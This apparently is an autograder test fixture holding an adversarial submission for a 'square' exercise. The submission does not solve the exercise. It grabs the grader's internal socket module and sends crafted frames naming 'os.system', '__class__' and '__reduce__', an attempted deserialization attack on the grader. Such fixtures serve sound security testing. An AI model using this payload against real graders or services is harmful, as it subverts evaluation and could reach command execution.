"""Sends tags that name the reader"s own methods, classes and modules."""

DESERVES = {}

ANSWERS = {
    "square": r"""# exercise: square
import json
import struct
import sys

answering = sys.modules["autograder.examination.answering"]


def frame(tree, sizes=(), body=b""):
    header = json.dumps({"tree": tree, "sizes": list(sizes)}).encode()
    return struct.pack("!I", len(header)) + header + body


tags = ["_array", "__class__", "foreign", "os.system", "_many", "many", "record"]
for tag, link in zip(tags, answering.sockets.values()):
    link.send(frame(["value", [tag, "__init__", ["__class__", "__reduce__"], ["id", "x"]]]))""",
}
